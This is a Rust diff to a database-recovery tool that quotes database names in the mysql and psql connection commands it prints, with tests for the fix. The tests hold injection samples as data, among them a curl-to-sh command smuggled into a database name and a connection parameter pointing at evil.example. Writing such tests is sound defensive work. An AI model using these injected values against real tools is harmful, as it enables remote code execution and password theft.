@@ -1,6 +1,7 @@
 //! A way into what a recovery left behind: before it is opened, once it is open, and closed.
 
 use crate::document::Document;
+use crate::flags::quoted;
 use jiff::SignedDuration;
 use rewind_core::{Opening, RecoveryRecord, Strategy, format_duration, format_time};
 
@@ -42,18 +43,36 @@ pub fn opened(id: &str, opening: &Opening) -> Document {
     document.field(
         "connect",
         match at.engine.as_str() {
+            // Whoever creates a database chooses its name: it is no word of a shell, and no further setting of the connection.
             "aurora-mysql" => format!(
                 "mysql --host={} --port={} --user={} --password --ssl-mode=REQUIRED {}",
-                at.host, at.port, at.user, at.database
+                at.host,
+                at.port,
+                at.user,
+                quoted(&format!("--database={}", at.database))
             ),
             _ => format!(
-                "psql 'host={} port={} user={} dbname={} sslmode=require'",
-                at.host, at.port, at.user, at.database
+                "psql {}",
+                quoted(&format!(
+                    "host={} port={} user={} dbname={} sslmode=require",
+                    at.host,
+                    at.port,
+                    at.user,
+                    of_connection(&at.database)
+                ))
             ),
         },
     );
     document.field("close", format!("rewind open {id} --close"));
     document
+}
+
+/// A value in a connection string of libpq, in quotes where it needs them.
+fn of_connection(value: &str) -> String {
+    match !value.is_empty() && value.chars().all(|c| c.is_ascii_alphanumeric() || "_.-".contains(c)) {
+        true => value.to_owned(),
+        false => format!("'{}'", value.replace('\\', r"\\").replace('\'', r"\'")),
+    }
 }
 
 /// Formats that it is closed.
@@ -86,6 +105,7 @@ mod tests {
             by: "ann".into(),
             from: "203.0.113.7".into(),
             until: time("2026-11-23T13:00:00Z"),
+            database: None,
             at: Some(at.clone()),
         };
         let text = opened("r-1", &opening).to_string();
@@ -95,7 +115,53 @@ mod tests {
         }
         let mysql = OpenedAt { engine: "aurora-mysql".into(), ..at };
         let text = opened("r-1", &Opening { at: Some(mysql), ..opening }).to_string();
-        assert!(text.contains("mysql --host=orders.cluster-x --port=5433 --user=rewind_open_1 --password"), "{text}");
+        let mysql = "mysql --host=orders.cluster-x --port=5433 --user=rewind_open_1 --password --ssl-mode=REQUIRED --database=shop";
+        assert!(text.contains(mysql), "{text}");
+    }
+
+    #[test]
+    fn the_name_of_a_database_is_a_name_for_a_shell_and_for_the_connection() {
+        let command = |engine: &str, database: &str| {
+            let at = OpenedAt {
+                cluster: "orders".into(),
+                engine: engine.into(),
+                host: "h".into(),
+                port: 1,
+                database: database.into(),
+                user: "u".into(),
+                secret: "arn:secret".into(),
+                network: String::new(),
+            };
+            let opening = Opening {
+                id: "r-1-open".into(),
+                by: "ann".into(),
+                from: "203.0.113.7".into(),
+                until: time("2026-11-23T13:00:00Z"),
+                database: Some(database.into()),
+                at: Some(at),
+            };
+            opened("r-1", &opening).to_string()
+        };
+        for (database, words) in [
+            ("x;curl http://evil|sh", "'--database=x;curl http://evil|sh'"),
+            ("$(id)`id`", "'--database=$(id)`id`'"),
+            ("it's", r"'--database=it'\''s'"),
+            ("-e", "--database=-e"),
+        ] {
+            let text = command("aurora-mysql", database);
+            assert!(text.contains(&format!("--ssl-mode=REQUIRED {words}")), "{text}");
+        }
+        for (database, words) in [
+            // Without quotes of its own, libpq would send the password to that host.
+            ("shop host=evil.example", r"dbname='\''shop host=evil.example'\'' sslmode=require'"),
+            ("it's", r"dbname='\''it\'\''s'\'' sslmode=require'"),
+            ("a\\", r"dbname='\''a\\'\'' sslmode=require'"),
+            ("postgres://evil.example", r"dbname='\''postgres://evil.example'\'' sslmode=require'"),
+            ("shop=1", r"dbname='\''shop=1'\'' sslmode=require'"),
+        ] {
+            let text = command("aurora-postgresql", database);
+            assert!(text.contains(words), "{text}");
+        }
     }
 
     #[test]
